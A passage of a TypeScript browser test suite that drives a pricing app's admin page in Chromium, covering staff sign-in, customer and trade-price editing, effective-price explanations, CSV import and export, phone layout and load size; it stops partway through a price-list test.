import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createCatalog, type CatalogFixture } from '../support/catalog-fixture.js';
import { chromiumAvailable, launchBrowser, type TestBrowser } from '../support/chromium.js';
import { startTestServer, type Tenant, type TestServer } from '../support/test-server.js';
import { startReceiver } from '../support/webhook-receiver.js';
import { startWorker } from '../support/webhook-fixture.js';
import { asStaff } from '../support/staff.js';
import {
  fieldError,
  focusedName,
  form,
  heading,
  scrollsSideways,
  seriousViolations,
  signIn,
  type StaffLogin,
  staffMember,
  storedKeys,
  tabTo,
  watch,
  type WatchedPage,
} from './admin-browser.js';

/** `PRICEBOOK_SCREENSHOT=1` also saves the README's picture of the page. */
const SCREENSHOT = process.env.PRICEBOOK_SCREENSHOT === '1' ? path.resolve(import.meta.dirname, '../../docs/admin.png') : undefined;

/**
 * The admin page (`/admin`) in a real Chromium (Debian's), against the real server on SQLite:
 * what a member of staff does, with the mouse and with the keyboard alone, at 375 px, and what
 * axe-core finds. The page is a client of the public API; the API's engines are tested elsewhere.
 */
describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
  let server: TestServer;
  let tenant: Tenant;
  let catalog: CatalogFixture;
  let browser: TestBrowser;
  let ada: number;
  let grace: number;
  /** The store's owner: every scope, as the API token the page took before staff accounts. */
  let owner: StaffLogin;
  const tabs: WatchedPage[] = [];

  /** A new tab, signed out: the browser's cookies (a session of an earlier test) are cleared first. */
  const open = async (viewport?: { width: number; height: number }) => {
    await browser.context.clearCookies();
    const tab = watch(await browser.context.newPage());
    if (viewport !== undefined) await tab.page.setViewportSize(viewport);
    tab.page.on('dialog', (dialog) => void dialog.accept());
    await tab.page.goto(`${server.baseUrl}/admin`);
    tabs.push(tab);
    return tab;
  };

  beforeAll(async () => {
    // Webhook receivers of the tests listen on 127.0.0.1.
    server = await startTestServer('sqlite', { PRICEBOOK_WEBHOOK_ALLOW_PRIVATE: '1' });
    tenant = await server.createTenant();
    catalog = await createCatalog(server, tenant);
    const created = await server.request('POST', '/v1/customers', {
      token: tenant.token,
      body: { email: 'ada@analytical.example', firstName: 'Ada', lastName: 'Lovelace', companyName: 'Analytical Engines Ltd', trade: true },
    });
    expect(created.status).toBe(201);
    ada = (created.body as { id: number }).id;
    const list = await server.request('POST', '/v1/price-lists', { token: tenant.token, body: { name: 'Resellers', kind: 'percentage', percentage: 10 } });
    expect(list.status).toBe(201);
    expect(
      (await server.request('PUT', `/v1/customers/${ada}`, { token: tenant.token, body: { priceListIds: [(list.body as { id: number }).id] } })).status,
    ).toBe(200);
    const other = await server.request('POST', '/v1/customers', {
      token: tenant.token,
      body: { email: 'grace@cobol.example', firstName: 'Grace', lastName: 'Hopper', trade: true },
    });
    grace = (other.body as { id: number }).id;
    const seeded = await server.request('POST', '/v1/trade-customer-product-prices/bulk', {
      token: tenant.token,
      body: [
        { customerId: grace, productId: catalog.mug, sku: catalog.skus.mug, price: 4 },
        { customerId: grace, productId: catalog.mug, sku: catalog.skus.mug, price: 3.5, minQuantity: 10 },
        { customerId: grace, productId: catalog.tee, sku: catalog.skus.tee, price: 9 },
      ],
    });
    expect(seeded.status).toBe(201);
    owner = await staffMember(server, tenant.storeId, 'owner', 'Olive Owner');
    browser = await launchBrowser(server.baseUrl);
  });

  afterAll(async () => {
    for (const tab of tabs) tab.expectClean([tenant.token, tenant.secret, owner.password]);
    expect(browser?.refused ?? []).toEqual([]);
    await browser?.close();
    await server?.close();
  });

  it('signs in, finds a customer, adds a price and shows it as the effective price with its candidates', async () => {
    const { page } = await open();
    await signIn(page, owner);
    // No credential in the tab: the session is an HttpOnly cookie.
    expect(await storedKeys(page)).toEqual([]);
    expect(await page.evaluate('document.cookie')).toBe('');

    await page.getByLabel('Search by name, email or company').fill('lovelace');
    await expect.poll(() => page.getByRole('status').filter({ hasText: 'customers match' }).textContent()).toMatch(/^1 of 5 customers match/);
    await page.getByRole('link', { name: 'Ada Lovelace', exact: true }).click();
    await heading(page, 'Ada Lovelace (Analytical Engines Ltd)').waitFor();
    await page.getByText('No trade prices yet.').waitFor();
    await page.getByRole('navigation', { name: 'Trade prices pages' }).getByText('no trade prices yet').waitFor();

    // The form opens in a panel beside the table, the focus in its first field; saving closes it.
    await page.getByRole('button', { name: 'Add a price' }).click();
    const panel = page.getByRole('dialog', { name: 'Add a price' });
    await panel.waitFor();
    const add = form(page, 'Add or edit a price');
    expect(await page.evaluate('document.activeElement.name')).toBe('sku');
    await add.getByLabel('SKU', { exact: true }).fill(catalog.skus.teeRedM);
    await add.getByLabel('Price', { exact: true }).fill('9.75');
    await add.getByRole('button', { name: 'Add price' }).click();
    await panel.waitFor({ state: 'hidden' });

    const prices = page.getByRole('region', { name: 'Trade prices of this customer' });
    await prices.getByRole('cell', { name: catalog.skus.teeRedM, exact: true }).waitFor();
    // The new price is the first row (newest first), highlighted, in the store's currency.
    expect(await prices.getByRole('row').nth(1).textContent()).toContain('£9.75');
    expect(await prices.getByRole('row').nth(1).getAttribute('class')).toBe('marked');
    // The outcome stays on screen until dismissed.
    const toast = page.locator('#toast');
    expect(await toast.isVisible()).toBe(true);
    expect(await toast.textContent()).toContain(`Price for ${catalog.skus.teeRedM} added`);
    // Saving explains the SKU at once: the new trade price wins over the 10 % list.
    const candidates = page.getByRole('region', { name: 'Candidates, in the order the rule looks at them' });
    await candidates.waitFor();
    expect(await page.locator('.price-line').textContent()).toContain('£9.75 per unit for 1 × ' + catalog.skus.teeRedM);
    const rows = await candidates.getByRole('row').allTextContents();
    expect(rows).toHaveLength(3);
    expect(rows[1]).toMatch(/^Trade price #\d+£9\.751.*Applies/);
    expect(rows[2]).toMatch(/^Price list “Resellers” \(percentage\)£11\.25.*Notrade price wins$/);

    // A quantity break, then the effective price of 60 units: the break wins, the first loses.
    await page.getByRole('button', { name: 'Add a price' }).click();
    await add.getByLabel('SKU', { exact: true }).fill(catalog.skus.teeRedM);
    await add.getByLabel('Price', { exact: true }).fill('8.5');
    await add.getByLabel('From quantity').fill('50');
    await add.getByRole('button', { name: 'Add price' }).click();
    await prices.getByText('£8.50', { exact: true }).waitFor();
    await toast.getByRole('button', { name: 'Dismiss' }).click();
    expect(await toast.isVisible()).toBe(false);
    const explain = form(page, 'Effective price');
    await explain.getByLabel('Quantity').fill('60');
    await explain.getByRole('button', { name: 'Explain the price' }).click();
    await expect.poll(() => page.locator('.price-line').textContent()).toContain('£8.50 per unit for 60 × ');
    expect(await candidates.getByRole('row').allTextContents()).toEqual([
      expect.stringMatching(/^Candidate/),
      expect.stringMatching(/^Trade price #\d+£8\.5050.*Applies$/),
      expect.stringMatching(/^Trade price #\d+£9\.751.*Nohigher quantity break wins$/),
      expect.stringMatching(/^Price list “Resellers” \(percentage\)£11\.25.*Notrade price wins$/),
    ]);
    if (SCREENSHOT !== undefined) {
      await page.getByRole('heading', { level: 1 }).scrollIntoViewIfNeeded();
      await page.screenshot({ path: SCREENSHOT, fullPage: true });
    }
  });

  it('shows the first 100 of many candidates, and the next ones on request', async () => {
    const made = await server.request('POST', '/v1/customers', {
      token: tenant.token,
      body: { email: 'charles@difference.example', firstName: 'Charles', lastName: 'Babbage', trade: true },
    });
    expect(made.status).toBe(201);
    const babbage = (made.body as { id: number }).id;
    const prices = Array.from({ length: 105 }, (_, n) => ({ customerId: babbage, productId: catalog.tee, sku: catalog.skus.teeRedL, price: 5 + n / 4 }));
    expect((await server.request('POST', '/v1/trade-customer-product-prices/bulk', { token: tenant.token, body: prices })).status).toBe(201);
    const { page } = await open();
    await signIn(page, owner);
    await page.goto(`${server.baseUrl}/admin#/customers/${babbage}`);
    await heading(page, 'Charles Babbage').waitFor();
    const explain = form(page, 'Effective price');
    await explain.getByLabel('SKU').fill(catalog.skus.teeRedL);
    await explain.getByRole('button', { name: 'Explain the price' }).click();
    const candidates = page.getByRole('region', { name: 'Candidates, in the order the rule looks at them' });
    await candidates.waitFor();
    await page.getByRole('status').filter({ hasText: 'Showing the first 100 of 105 candidates.' }).waitFor();
    expect(await candidates.getByRole('row').count()).toBe(101);
    // The newest price wins and comes first; the oldest is the last of the 105.
    expect(await candidates.getByRole('row').nth(1).textContent()).toMatch(/^Trade price #\d+£31\.001.*Applies$/);
    await page.getByRole('button', { name: 'Show the next 5 candidates' }).click();
    await page.getByRole('status').filter({ hasText: 'Showing all 105 candidates.' }).waitFor();
    const rows = await candidates.getByRole('row').allTextContents();
    expect(rows).toHaveLength(106);
    expect(rows.at(-1)).toMatch(/^Trade price #\d+£5\.001.*Nonewer record wins$/);
    expect(await page.getByRole('button', { name: /^Show the next/ }).isHidden()).toBe(true);
  });

  it('adds and edits a customer, reorders its lists, sorts and searches its prices, and suggests SKUs as they are typed', async () => {
    const { page } = await open();
    await signIn(page, owner);
    // The form opens in a panel beside the list, its first field focused.
    await page.getByRole('button', { name: 'Add a customer' }).click();
    const create = form(page, 'Add a customer');
    await expect.poll(() => focusedName(page)).toBe('Email');
    await create.getByLabel('Email').fill('linus@kernel.example');
    await create.getByLabel('First name').fill('Linus');
    await create.getByLabel('Last name').fill('Torvalds');
    await create.getByLabel('Company').fill('Kernel Ltd');
    await create.getByRole('button', { name: 'Add customer' }).click();
    await heading(page, 'Linus Torvalds (Kernel Ltd)').waitFor();
    expect(await page.locator('#toast').textContent()).toContain('Customer Linus Torvalds (Kernel Ltd) added');
    const linus = Number(/#\/customers\/(\d+)$/.exec(page.url())?.[1]);
    const stored = (await server.request('GET', `/v1/customers/${linus}`, { token: tenant.token })).body as Record<string, unknown>;
    expect(stored).toMatchObject({
      email: 'linus@kernel.example',
      firstName: 'Linus',
      lastName: 'Torvalds',
      companyName: 'Kernel Ltd',
      trade: true,
      active: true,
    });

    await page.getByText('Edit details (name, company, trade, active)').click();
    const edit = form(page, 'Edit the customer');
    await edit.getByLabel('Company').fill('Kernel Org');
    await edit.getByLabel('Active').selectOption('false');
    await edit.getByRole('button', { name: 'Save details' }).click();
    await heading(page, 'Linus Torvalds (Kernel Org)').waitFor();
    expect(await page.locator('.details').textContent()).toContain('ActiveNo');
    expect((await server.request('GET', `/v1/customers/${linus}`, { token: tenant.token })).body).toMatchObject({ companyName: 'Kernel Org', active: false });

    // Two lists, then a reorder with the keyboard: the second goes first.
    const listIds: number[] = [];
    for (const name of ['Summer', 'Winter']) {
      listIds.push(((await server.request('POST', '/v1/price-lists', { token: tenant.token, body: { name, kind: 'fixed' } })).body as { id: number }).id);
    }
    expect((await server.request('PUT', `/v1/customers/${linus}`, { token: tenant.token, body: { priceListIds: listIds } })).status).toBe(200);
    const prices = Array.from({ length: 6 }, (_, index) => ({
      customerId: linus,
      productId: index % 2 === 0 ? catalog.tee : catalog.mug,
      sku: index % 2 === 0 ? catalog.skus.teeRedM : catalog.skus.mug,
      price: [5, 2.5, 7.25, 1, 9, 3][index]!,
    }));
    expect((await server.request('POST', '/v1/trade-customer-product-prices/bulk', { token: tenant.token, body: prices })).status).toBe(201);
    await page.reload();
    await heading(page, 'Linus Torvalds (Kernel Org)').waitFor();
    await page.getByRole('button', { name: 'Move “Winter” up' }).focus();
    await page.keyboard.press('Enter');
    await expect
      .poll(async () => ((await server.request('GET', `/v1/customers/${linus}`, { token: tenant.token })).body as { priceListIds: number[] }).priceListIds)
      .toEqual([listIds[1], listIds[0]]);
    await expect.poll(() => page.locator('.list-order').textContent()).toMatch(/^⠿ Winter.*Summer/);
    // The focus stays on the moved list, now on its one way left to go.
    expect(await page.evaluate('document.activeElement.getAttribute("aria-label")')).toBe('Move “Winter” down');
    // With a pointer, dragged to its place: Summer back onto the first.
    const lists = page.locator('.list-order li');
    await lists.filter({ hasText: 'Summer' }).dragTo(lists.filter({ hasText: 'Winter' }));
    await expect
      .poll(async () => ((await server.request('GET', `/v1/customers/${linus}`, { token: tenant.token })).body as { priceListIds: number[] }).priceListIds)
      .toEqual(listIds);
    await expect.poll(() => page.locator('.list-order').textContent()).toMatch(/^⠿ Summer.*Winter/);

    // Newest first, then by price up and down with the column's button.
    const table = page.getByRole('region', { name: 'Trade prices of this customer' });
    const priceColumn = async () => (await table.getByRole('row').allTextContents()).slice(1).map((row) => /£(\d+\.\d\d)/.exec(row)?.[1]);
    expect(await priceColumn()).toEqual(['3.00', '9.00', '1.00', '7.25', '2.50', '5.00']);
    // By product: the tee's prices together (its product was added first), then the mug's, each in the order added.
    await table.getByRole('button', { name: 'Product', exact: true }).click();
    await expect.poll(priceColumn).toEqual(['5.00', '7.25', '9.00', '2.50', '1.00', '3.00']);
    expect(await table.getByRole('columnheader', { name: 'Product', exact: true }).getAttribute('aria-sort')).toBe('ascending');
    await table.getByRole('button', { name: 'Price', exact: true }).click();
    await expect.poll(priceColumn).toEqual(['1.00', '2.50', '3.00', '5.00', '7.25', '9.00']);
    expect(await table.getByRole('columnheader', { name: 'Price', exact: true }).getAttribute('aria-sort')).toBe('ascending');
    await table.getByRole('button', { name: 'Price', exact: true }).click();
    await expect.poll(priceColumn).toEqual(['9.00', '7.25', '5.00', '3.00', '2.50', '1.00']);
    expect(await table.getByRole('columnheader', { name: 'Price', exact: true }).getAttribute('aria-sort')).toBe('descending');

    // Part of a SKU, in any case, finds it.
    const filter = form(page, 'Filter trade prices');
    await filter.getByLabel('SKU contains').fill(catalog.skus.teeRedM.slice(-5).toLowerCase());
    await filter.getByRole('button', { name: 'Filter' }).click();
    await expect.poll(priceColumn).toEqual(['9.00', '7.25', '5.00']);
    await filter.getByLabel('SKU contains').fill('nothing-like-it');
    await filter.getByRole('button', { name: 'Filter' }).click();
    await page.getByText('No trade prices match the filter.').waitFor();

    // The add form's SKU field suggests the store's SKUs with their product's title.
    await page.getByRole('button', { name: 'Add a price' }).click();
    const add = form(page, 'Add or edit a price');
    await add.getByLabel('SKU', { exact: true }).pressSequentially(catalog.skus.tee.toLowerCase());
    const listId = await add.getByLabel('SKU', { exact: true }).getAttribute('list');
    await expect
      .poll(
        () =>
          page.evaluate(`Array.from(document.querySelectorAll('datalist[id="${listId}"] option'), (option) => option.value + ' ' + option.label)`) as Promise<
            string[]
          >,
      )
      .toEqual([`${catalog.skus.tee} Tee`, `${catalog.skus.teeRedL} Tee (variation)`, `${catalog.skus.teeRedM} Tee (variation)`]);
  });

  it('shows products and orders read only, prices a cart with each line explained, and folds the menu on a phone', async () => {
    const made = await server.request('POST', '/v1/customers', {
      token: tenant.token,
      body: { email: 'cart@buyers.example', firstName: 'Carta', lastName: 'Buyer', trade: true },
    });
    const buyer = (made.body as { id: number }).id;
    const price = await server.request('POST', '/v1/trade-customer-product-prices/bulk', {
      token: tenant.token,
      body: [{ customerId: buyer, productId: catalog.mug, sku: catalog.skus.mug, price: 2.75 }],
    });
    const tradePriceId = (price.body as Array<{ id: number }>)[0]!.id;
    const order = await server.request('POST', '/v1/orders', {
      token: tenant.token,
      body: {
        customerId: buyer,
        lines: [
          { sku: catalog.skus.mug, quantity: 3 },
          { sku: catalog.skus.teeRedL, quantity: 1 },
        ],
      },
    });
    expect(order.status, order.text).toBe(201);
    const orderId = (order.body as { id: number }).id;

    const { page } = await open({ width: 1280, height: 900 });
    await signIn(page, owner);
    // At desktop widths the menu is a sidebar beside the page, and stays put.
    const sidebar = await page.locator('.site-header').boundingBox();
    const main = await page.locator('main').boundingBox();
    expect(sidebar!.x).toBe(0);
    expect(sidebar!.height).toBeGreaterThanOrEqual(900);
    expect(main!.x).toBeGreaterThanOrEqual(sidebar!.width);

    await page.getByRole('link', { name: 'Products' }).click();
    await heading(page, 'Products').waitFor();
    const products = page.getByRole('region', { name: 'Products' });
    await expect.poll(() => products.getByRole('row').filter({ hasText: catalog.skus.tee }).textContent()).toBe(`Tee${catalog.skus.tee}£10.002AnyYes`);
    await products.getByRole('link', { name: 'Tee' }).first().click();
    await heading(page, 'Tee').waitFor();
    await expect
      .poll(() => page.getByRole('region', { name: 'Variations of this product' }).getByRole('row').allTextContents())
      .toEqual(['SKUPriceStockUnits a line', `${catalog.skus.teeRedM}£12.50—the product’s`, `${catalog.skus.teeRedL}£10.00 (the product’s)—the product’s`]);

    await page.getByRole('link', { name: 'Orders' }).click();
    await heading(page, 'Orders').waitFor();
    const orders = page.getByRole('region', { name: 'Orders, newest first' });
    await expect.poll(() => orders.getByRole('row').nth(1).textContent()).toMatch(new RegExp(`^Order #${orderId}.*Carta Buyer2£18\\.25$`));
    await orders.getByRole('link', { name: `Order #${orderId}` }).click();
    await heading(page, `Order #${orderId}`).waitFor();
    await expect
      .poll(() => page.getByRole('region', { name: 'Lines of this order' }).getByRole('row').allTextContents())
      .toEqual([
        'SKUQuantityUnit priceLine totalPrice from',
        `${catalog.skus.mug}3£2.75£8.25Trade price #${tradePriceId}`,
        `${catalog.skus.teeRedL}1£10.00£10.00The product’s price`,
      ]);

    // A cart priced on the customer's page; a line explained; a bad line named.
    await page.goto(`${server.baseUrl}/admin#/customers/${buyer}`);
    await heading(page, 'Carta Buyer').waitFor();
    const cart = form(page, 'Price a cart');
    await cart.getByLabel('Lines').fill(`${catalog.skus.mug} 12\n${catalog.skus.tee}, 2`);
    await cart.getByRole('button', { name: 'Price the cart' }).click();
    const priced = page.getByRole('region', { name: 'Priced lines' });
    await priced.waitFor();
    expect(await priced.getByRole('row').allTextContents()).toEqual([
      'LineSKUQuantityUnit priceLine totalPrice from',
      `1${catalog.skus.mug}12£2.75£33.00Trade price #${tradePriceId}Explain`,
      `2${catalog.skus.tee}2£10.00£20.00The product’s priceExplain`,
    ]);
    expect(await page.locator('.quote-result .price-line').textContent()).toBe('Total £53.00 for 2 lines');
    await priced.getByRole('button', { name: `Explain line 1 (${catalog.skus.mug})` }).click();
    await expect.poll(() => page.locator('.effective .price-line').textContent()).toContain(`£2.75 per unit for 12 × ${catalog.skus.mug}`);
    await cart.getByLabel('Lines').fill(`${catalog.skus.mug} 0`);
    await cart.getByRole('button', { name: 'Price the cart' }).click();
    await expect.poll(() => cart.locator('.form-errors').textContent()).toMatch(/item 1, quantity/);
    expect(await priced.count()).toBe(0);

    // A phone: one "Menu" button; the links fold away again once one is followed.
    const phone = (await open({ width: 375, height: 812 })).page;
    await signIn(phone, owner);
    const menu = phone.getByRole('button', { name: 'Menu' });
    expect(await menu.getAttribute('aria-expanded')).toBe('false');
    expect(await phone.getByRole('link', { name: 'Orders' }).isVisible()).toBe(false);
    expect((await phone.locator('.site-header').boundingBox())!.height).toBeLessThan(80);
    await menu.click();
    expect(await menu.getAttribute('aria-expanded')).toBe('true');
    await phone.getByRole('link', { name: 'Orders' }).click();
    await heading(phone, 'Orders').waitFor();
    expect(await menu.getAttribute('aria-expanded')).toBe('false');
    expect(await phone.getByRole('link', { name: 'Products' }).isVisible()).toBe(false);
    // A row's actions are its last cells, reached by scrolling the table (wider than the phone)
    // inside its own box: pinned over the others, they covered its prices.
    await phone.goto(`${server.baseUrl}/admin#/customers/${buyer}`);
    const remove = phone.getByRole('button', { name: `Delete price #${tradePriceId} of ${catalog.skus.mug}` });
    await remove.waitFor();
    await remove.scrollIntoViewIfNeeded();
    expect(await scrollsSideways(phone)).toBe(false);
    const box = await remove.boundingBox();
    expect(box!.x + box!.width).toBeLessThanOrEqual(375);
  });

  it('loads under 100 KB of scripts and styles, compressed, on its first view', async () => {
    const { page } = await open({ width: 1280, height: 900 });
    await signIn(page, owner);
    await page.waitForLoadState('networkidle');
    const loaded = (await page.evaluate(`performance.getEntriesByType('resource').concat(performance.getEntriesByType('navigation'))
      .filter((entry) => /\\/admin(\\/[^?#]*\\.(js|css))?$/.test(new URL(entry.name).pathname))
      .map((entry) => ({ name: new URL(entry.name).pathname, encoded: entry.encodedBodySize, decoded: entry.decodedBodySize }))`)) as Array<{
      name: string;
      encoded: number;
      decoded: number;
    }>;
    const scripts = loaded.filter((entry) => /\.(js|css)$/.test(entry.name));
    expect(scripts.map((entry) => entry.name)).toEqual(expect.arrayContaining(['/admin/main.js', '/admin/admin.css', '/admin/views/customers.js']));
    const encoded = scripts.reduce((sum, entry) => sum + entry.encoded, 0);
    const decoded = scripts.reduce((sum, entry) => sum + entry.decoded, 0);
    console.log(
      `admin page first load: ${scripts.length} scripts and styles, ${(encoded / 1024).toFixed(1)} KiB compressed (${(decoded / 1024).toFixed(1)} KiB as files)`,
    );
    expect(encoded).toBeGreaterThan(0);
    expect(encoded).toBeLessThan(decoded);
    expect(encoded).toBeLessThan(100 * 1024);
  });

  it('edits a price as a replace of its SKU (the SKU’s other prices keep their records), and deletes one', async () => {
    const { page } = await open();
    await signIn(page, owner);
    await page.goto(`${server.baseUrl}/admin#/customers/${grace}`);
    const prices = page.getByRole('region', { name: 'Trade prices of this customer' });
    await prices.waitFor();
    const before = (await server.request('GET', `/v1/trade-customer-product-prices?customerId=${grace}`, { token: tenant.token })).body as {
      id: number;
      price: number;
    }[];
    const [edited, kept, deleted] = before;

    await prices.getByRole('button', { name: `Edit price #${edited!.id} of ${catalog.skus.mug}` }).click();
    await page.getByRole('heading', { name: `Edit price #${edited!.id}` }).waitFor();
    const editor = form(page, 'Add or edit a price');
    expect(await editor.getByLabel('SKU', { exact: true }).getAttribute('readonly')).toBe('');
    expect(await editor.getByLabel('Price', { exact: true }).inputValue()).toBe('4');
    await editor.getByLabel('Price', { exact: true }).fill('3.9');
    await editor.getByRole('button', { name: 'Save (replace)' }).click();
    await prices.getByText('£3.90', { exact: true }).waitFor();
    // Saved, the panel closes; opened again, it adds.
    await page.getByRole('dialog').waitFor({ state: 'hidden' });
    await page.getByRole('button', { name: 'Add a price' }).click();
    await page.getByRole('dialog', { name: 'Add a price' }).waitFor();
    await page.keyboard.press('Escape');
    await page.getByRole('dialog').waitFor({ state: 'hidden' });
    const after = (await server.request('GET', `/v1/trade-customer-product-prices?customerId=${grace}`, { token: tenant.token })).body as {
      id: number;
      price: number;
    }[];
    expect(after.map((record) => [record.id, record.price])).toEqual([
      [kept!.id, 3.5],
      [deleted!.id, 9],
      [expect.any(Number), 3.9],
    ]);

    // Inline: the price itself opens as a field; a refusal is said there, Enter saves, the row is marked.
    const changed = after[2]!;
    await prices.getByRole('button', { name: `Change the price of #${changed.id} (${catalog.skus.mug}), now £3.90` }).click();
    const field = prices.getByRole('textbox', { name: `New price of #${changed.id} (${catalog.skus.mug})` });
    await field.fill('3.12345');
    await field.press('Enter');
    await expect.poll(() => prices.getByRole('alert').textContent()).toMatch(/decimal/);
    await field.fill('3.8');
    await field.press('Enter');
    await prices.getByText('£3.80', { exact: true }).waitFor();
    expect(await prices.locator('tr.marked').textContent()).toContain('£3.80');
    const inlined = (await server.request('GET', `/v1/trade-customer-product-prices?customerId=${grace}`, { token: tenant.token })).body as {
      id: number;
      price: number;
    }[];
    expect(inlined.map((record) => [record.id, record.price])).toEqual([
      [kept!.id, 3.5],
      [deleted!.id, 9],
      [expect.any(Number), 3.8],
    ]);

    // The page's own dialog says what goes; Cancel keeps it, with the focus back on the button.
    const deleteButton = prices.getByRole('button', { name: `Delete price #${deleted!.id} of ${catalog.skus.tee}` });
    await deleteButton.click();
    const dialog = page.getByRole('dialog', { name: `Delete price #${deleted!.id}?` });
    expect(await dialog.textContent()).toContain(`${catalog.skus.tee} at £9.00 from 1 unit, valid always, is deleted from this customer’s prices.`);
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    expect(await dialog.count()).toBe(0);
    await expect.poll(() => page.evaluate('document.activeElement.getAttribute("aria-label")')).toBe(`Delete price #${deleted!.id} of ${catalog.skus.tee}`);
    await deleteButton.click();
    await page.getByRole('dialog').getByRole('button', { name: 'Delete price' }).click();
    await expect.poll(() => prices.getByRole('row').count()).toBe(3);
    const left = (await server.request('GET', `/v1/trade-customer-product-prices?customerId=${grace}&fields=price`, { token: tenant.token })).body;
    expect(left).toEqual([{ price: 3.5 }, { price: 3.8 }]);
  });

  it('shows the API’s validation errors next to the fields it names', async () => {
    const { page } = await open();
    await signIn(page, owner);
    await page.goto(`${server.baseUrl}/admin#/customers/${catalog.tradeCustomer}`);
    await page.getByRole('button', { name: 'Add a price' }).click();
    const add = form(page, 'Add or edit a price');
    await add.waitFor();
    const price = add.getByLabel('Price', { exact: true });

    await add.getByLabel('SKU', { exact: true }).fill(catalog.skus.mug);
    await price.fill('4.12345');
    await add.getByRole('button', { name: 'Add price' }).click();
    await expect.poll(() => fieldError(price)).toBe('Price: must have at most 4 decimal places');
    expect(await page.evaluate('document.activeElement.getAttribute("aria-label") ?? document.activeElement.labels[0].textContent')).toBe('Price');

    // A window that ends before it starts: the API names validUntil.
    await price.fill('4.1');
    await add.getByLabel('Valid from').fill('2027-02-01T00:00');
    await add.getByLabel('Valid until').fill('2027-01-01T00:00');
    await add.getByRole('button', { name: 'Add price' }).click();
    await expect.poll(() => fieldError(add.getByLabel('Valid until'))).toBe('Valid until: must be after validFrom (2027-02-01T00:00:00.000Z)');
    expect(await fieldError(price)).toBe('');

    // A SKU no product has: found by asking the products list, shown at the SKU.
    await add.getByLabel('SKU', { exact: true }).fill('NO-SUCH-SKU');
    await add.getByRole('button', { name: 'Add price' }).click();
    await expect.poll(() => fieldError(add.getByLabel('SKU', { exact: true }))).toBe("SKU: no product or variation of this store has the SKU 'NO-SUCH-SKU'");
    const stored = await server.request('GET', `/v1/trade-customer-product-prices/count?customerId=${catalog.tradeCustomer}`, { token: tenant.token });
    expect(stored.body).toEqual({ count: 0 });
  });

  it('imports a CSV file: a dry run that changes nothing and lists what would change, then the real import', async () => {
    const { page } = await open();
    await signIn(page, owner);
    await page.getByRole('link', { name: 'Import and export' }).click();
    await heading(page, 'Import and export').waitFor();
    const upload = form(page, 'Import a CSV file');
    // Replace is the mode offered first (the same sheet again changes nothing), each mode said before the upload.
    expect(await upload.getByLabel('Mode').inputValue()).toBe('replace');
    expect(await upload.textContent()).toContain('a sheet uploaded twice doubles them');
    const customer = catalog.otherTradeCustomer;

    await upload.getByLabel('CSV file').setInputFiles({
      name: 'bad.csv',
      mimeType: 'text/csv',
      buffer: Buffer.from(`customer_id,sku,price\n${customer},${catalog.skus.mug},4.5\n${customer},NOPE,1\n`),
    });
    await upload.getByRole('button', { name: 'Check the file (dry run)' }).click();
    await page.getByText('Dry run failed: 1 problem in the file; nothing changed.').waitFor();
    expect(await page.getByRole('region', { name: 'Problems in the file' }).getByRole('row').nth(1).textContent()).toMatch(/^3sku/);
    expect(await upload.getByRole('button', { name: 'Apply import' }).isDisabled()).toBe(true);

    // The customer's prices now: the file reprices the mug and drops the tee.
    const bulk = await server.request('POST', '/v1/trade-customer-product-prices/bulk', {
      token: tenant.token,
      body: [
        { customerId: customer, productId: catalog.mug, sku: catalog.skus.mug, price: 5 },
        { customerId: customer, productId: catalog.tee, sku: catalog.skus.tee, price: 9 },
      ],
    });
    expect(bulk.status, bulk.text).toBe(201);
    const csv = `customer_id,sku,price,min_quantity,valid_from,valid_until\n${customer},${catalog.skus.mug},4.5,,,\n${customer},${catalog.skus.teeRedM},11,10,,\n`;
    await upload.getByLabel('CSV file').setInputFiles({ name: 'prices.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) });
    await upload.getByLabel('Mode').selectOption('replace');
    await upload.getByRole('button', { name: 'Check the file (dry run)' }).click();
    await page
      .getByText('Dry run succeeded, nothing changed yet: the import would create 2 prices, delete 2 and leave 0 unchanged (2 rows, long format).')
      .waitFor();
    expect(await page.getByRole('progressbar').getAttribute('value')).toBe('2');
    // Which prices, before → after, by SKU.
    const changes = page.getByRole('region', { name: 'Prices the import would change: 1 new, 1 changed, 1 deleted' });
    const named = `trade2-${catalog.skus.mug.slice('MUG'.length)}@example.com`; // the customer by its name (its email: it has no other)
    expect(await changes.getByRole('row').allTextContents()).toEqual([
      'ChangeCustomerSKUFrom quantityValidBefore → after',
      `Changed${named}${catalog.skus.mug}1valid always£5.00 → £4.50`,
      `Deleted${named}${catalog.skus.tee}1valid always£9.00 → none`,
      `New${named}${catalog.skus.teeRedM}10valid alwaysnone → £11.00`,
    ]);
    const count = () =>
      server.request('GET', `/v1/trade-customer-product-prices/count?customerId=${customer}`, { token: tenant.token }).then((answer) => answer.body);
    expect(await count()).toEqual({ count: 2 });

    await upload.getByRole('button', { name: 'Apply import' }).click();
    await page.getByText('Import succeeded: 2 prices created, 2 deleted, 0 unchanged (2 rows, long format).').waitFor();
    expect(await changes.count()).toBe(0);
    const prices = await server.request('GET', `/v1/trade-customer-product-prices?customerId=${customer}`, { token: tenant.token });
    expect((prices.body as Array<{ sku: string; price: number }>).map(({ sku, price }) => [sku, price])).toEqual([
      [catalog.skus.mug, 4.5],
      [catalog.skus.teeRedM, 11],
    ]);
    const recent = page.getByRole('region', { name: 'Recent imports, newest first' });
    await expect
      .poll(() => recent.getByRole('row').nth(1).textContent())
      .toMatch(/^#\d+prices\.csvOlive Owner\d{4}-.*replacesucceeded22 created, 2 deleted, 0 unchanged$/);

    // The customer's prices, downloaded in the long format: the file imports back as it is.
    const exporting = form(page, 'Download a customer’s prices');
    await exporting.getByLabel('Customer').fill(`trade2-${catalog.skus.mug.slice(3)}@example.com`);
    const [download] = await Promise.all([page.waitForEvent('download'), exporting.getByRole('button', { name: 'Download customer prices' }).click()]);
    expect(download.suggestedFilename()).toBe(`customer-${customer}-prices.csv`);
    const file = await download.path();
    expect(fs.readFileSync(file, 'utf8')).toBe(csv.replace('4.5,,,', '4.5,1,,'));
  });

  it('price lists: creates one, adds an entry, assigns a customer, whose effective price then comes from it', async () => {
    const { page } = await open();
    await signIn(page, owner);
    await page.getByRole('link', { name: 'Price lists' }).click();
    await heading(page, 'Price lists').waitFor();
    const create = form(page, 'Create a price list');
    await create.getByLabel('Name').fill('Glove deal');
    await create.getByLabel('Kind').selectOption('percentage');
    await create.getByRole('button', { name: 'Create price list' }).click();
